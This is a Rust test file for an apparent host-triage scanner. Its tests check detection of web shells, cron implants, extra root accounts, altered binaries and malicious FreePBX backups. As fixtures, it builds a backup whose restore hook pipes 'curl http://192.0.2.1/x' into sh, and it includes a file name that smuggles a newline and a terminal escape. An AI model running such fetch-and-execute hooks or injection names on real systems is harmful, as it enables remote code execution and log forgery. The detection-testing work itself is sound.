use crate::env::{CRONTAB, SHELL, TestEnvironment};

#[test]
fn a_clean_host_gives_no_evidence() {
    let env = TestEnvironment::new();
    env.clean_host();
    let answer = env.triage(["scan", "host"]).expect(0);
    assert!(answer.stdout.contains("NO_EVIDENCE"), "{}", answer.stdout);
}

#[test]
fn shell_cron_line_and_second_root_are_found_each_by_its_own_rule() {
    let env = TestEnvironment::new();
    env.broken_host();
    let (found, code) = env.findings(&env.host());
    assert_eq!(code, 2);
    let rule_at = |path: &str, prefix: &str| found.iter().any(|(_, rule, at)| at == path && rule.starts_with(prefix));
    assert!(rule_at("/var/www/html/uploads/img.php", "TR-WEBSHELL-"), "{found:?}");
    assert!(rule_at("/var/spool/cron/crontabs/www-data", "TR-CRON-"), "{found:?}");
    assert!(rule_at("/etc/passwd", "TR-ACCOUNT-"), "{found:?}");
}

#[test]
fn findings_of_a_live_root_and_of_its_bundle_are_the_same_in_every_format() {
    let env = TestEnvironment::new();
    env.broken_host();
    env.put("var/www/html/uploads/new\nline.php", SHELL);
    let (live, _) = env.findings(&env.host());
    assert!(live.len() >= 4);
    for (name, format) in [("b.tar.zst", "tar.zst"), ("b.tar.gz", "tar.gz"), ("b.zip", "zip"), ("b", "dir")] {
        env.triage(["collect", "--root", "host", "-o", name, "--format", format]).expect(0);
        let (bundle, code) = env.findings(&env.at(name));
        assert_eq!((&bundle, code), (&live, 2), "{format}");
    }
}

#[test]
fn a_subtree_of_a_root_keeps_its_place() {
    let env = TestEnvironment::new();
    env.broken_host();
    let answer = env.triage(["scan", "host/var/www", "--root", "host", "--format", "jsonl"]).expect(2);
    assert!(answer.stdout.contains(r#""path":"/var/www/html/uploads/img.php""#), "{}", answer.stdout);
    assert!(
        answer.stdout.contains("host/var/www\",\"id"),
        "the target is named as it was asked for: {}",
        answer.stdout
    );
    let outside = env.triage(["scan", "host/var/www", "--root", "state-that-is-not-there"]);
    assert_eq!(outside.code, 1);
}

#[test]
fn a_foreign_tar_and_zip_are_scanned_without_unpacking() {
    let env = TestEnvironment::new();
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(SHELL.len() as u64);
    header.set_mode(0o644);
    tar.append_data(&mut header, "site/uploads/img.php", SHELL.as_bytes()).unwrap();
    std::fs::write(env.at("site.tar"), tar.into_inner().unwrap()).unwrap();
    let mut zip = zip::ZipWriter::new(std::fs::File::create(env.at("site.zip")).unwrap());
    zip.start_file("site/uploads/img.php", zip::write::SimpleFileOptions::default()).unwrap();
    std::io::Write::write_all(&mut zip, SHELL.as_bytes()).unwrap();
    zip.finish().unwrap();
    for archive in ["site.tar", "site.zip"] {
        let (found, code) = env.findings(&env.at(archive));
        assert_eq!(code, 2, "{archive}");
        assert!(found.iter().any(|(_, _, path)| path == "/site/uploads/img.php"), "{archive}: {found:?}");
    }
}

#[test]
fn a_name_cannot_forge_a_line_of_the_table() {
    let env = TestEnvironment::new();
    env.clean_host();
    env.put("var/www/html/x\nhost: NO_EVIDENCE\u{1b}[2J.php", SHELL);
    let answer = env.triage(["scan", "host"]).expect(2);
    assert!(!answer.stdout.contains('\u{1b}'), "{:?}", answer.stdout);
    assert!(!answer.stdout.lines().any(|line| line.starts_with("host: NO_EVIDENCE")), "{}", answer.stdout);
}

#[test]
fn rules_of_the_users_are_used_beside_ours() {
    let env = TestEnvironment::new();
    env.clean_host();
    std::fs::write(env.at("mine.yar"), "rule mine { strings: $a = \"Location: /admin\" condition: $a }\n").unwrap();
    let answer = env.triage(["scan", "host", "--rules", "mine.yar", "--format", "jsonl"]).expect(2);
    assert!(answer.stdout.contains(r#""rule":"mine""#), "{}", answer.stdout);
}

#[test]
fn secrets_are_not_printed() {
    let env = TestEnvironment::new();
    env.broken_host();
    for format in ["table", "json", "jsonl", "markdown"] {
        let answer = env.triage(["scan", "host", "--format", format]).expect(2);
        assert!(!answer.stdout.contains("$6$test$"), "{format}: {}", answer.stdout);
    }
    assert!(CRONTAB.contains("192.0.2.66"));
}

#[test]
fn a_replaced_program_is_found_when_packages_are_verified() {
    let env = TestEnvironment::new();
    env.clean_host();
    env.put("var/lib/dpkg/status", "Package: coreutils\nStatus: install ok installed\nVersion: 9.1-1\n");
    // MD5 of `x` and a newline.
    env.put("var/lib/dpkg/info/coreutils.md5sums", "401b30e3b8b5d629635a5c613cdb7919  bin/ls\n");
    env.put_with("usr/bin/ls", 0o755, "x\n");
    let scan = |code| env.triage(["scan", "host", "--verify-packages", "--format", "jsonl"]).expect(code).stdout;
    assert!(!scan(0).contains("TR-PACKAGE-"));
    env.put_with("usr/bin/ls", 0o755, "y\n");
    let answer = scan(2);
    for word in ["TR-PACKAGE-0001", "401b30e3b8b5d629635a5c613cdb7919", "may have changed it with the file"] {
        assert!(answer.contains(word), "{answer}");
    }
    // Programs are no part of what a profile reads by itself.
    let answer = env.triage(["scan", "host", "--format", "jsonl"]).expect(0);
    assert!(!answer.stdout.contains("TR-PACKAGE-0001"), "{}", answer.stdout);
}

/// A backup of FreePBX, as its backup module lays it, that runs `hook` after it is restored.
fn freepbx_backup(hook: &str) -> Vec<u8> {
    let metadata = format!(
        r#"{{ "modules": [ {{ "module": "core", "version": "17.0.18.33" }} ],
  "backupInfo": {{ "backup_name": "nightly", "prere_hook": "", "postre_hook": "{hook}", "custom_files": "[]" }} }}"#
    );
    let files = [
        ("modulejson/Core.json", r#"{ "module": "core", "files": [], "configs": { "settings": {} } }"#),
        ("files/etc/asterisk/voicemail.conf", "[general]\nformat=wav\n"),
        ("metadata.json", &metadata),
    ];
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (name, content) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, name, content.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

#[test]
fn a_freepbx_backup_is_answered_for_in_one_line() {
    let env = TestEnvironment::new();
    std::fs::write(env.at("good.tar.gz"), freepbx_backup("")).unwrap();
    let answer = env.triage(["scan", "good.tar.gz"]).expect(0);
    assert!(answer.stderr.contains("a FreePBX backup (tar in gzip) of 3 objects"), "{}", answer.stderr);
    let said = "This is a FreePBX backup (version 15 or later); nothing was found in it that speaks against restoring it. No evidence";
    assert!(answer.stderr.contains(said), "{}", answer.stderr);
    std::fs::write(env.at("bad.tar.gz"), freepbx_backup("curl -s http://192.0.2.1/x | sh")).unwrap();
    let answer = env.triage(["scan", "bad.tar.gz"]).expect(2);
    let said = "This is a FreePBX backup (version 15 or later) that is not safe to restore. Compromised";
    assert!(answer.stderr.contains(said), "{}", answer.stderr);
    assert!(answer.stdout.contains("TR-BACKUP-0001") && answer.stdout.contains("TR-BACKUP-0009"), "{}", answer.stdout);
}

#[test]
fn a_playbook_leaves_an_archive_that_somebody_keeps_where_it_is() {
    let env = TestEnvironment::new();
    env.clean_host();
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("site/uploads/img.php", zip::write::SimpleFileOptions::default()).unwrap();
    std::io::Write::write_all(&mut zip, SHELL.as_bytes()).unwrap();
    let zip = zip.finish().unwrap().into_inner();
    env.put("root/samples.zip", &zip);
    let answer = env.triage(["scan", "host/root", "--root", "host", "--format", "jsonl"]);
    assert!(answer.stdout.contains(r#""path":"/root/samples.zip""#), "{}", answer.stdout);
    assert!(answer.stdout.contains(r#""verdict":"suspicious""#), "{}", answer.stdout);
    env.triage(["plan", "host/root", "--root", "host", "--playbook", "freepbx/web-shell", "-o", "plan.json"]).expect(0);
}
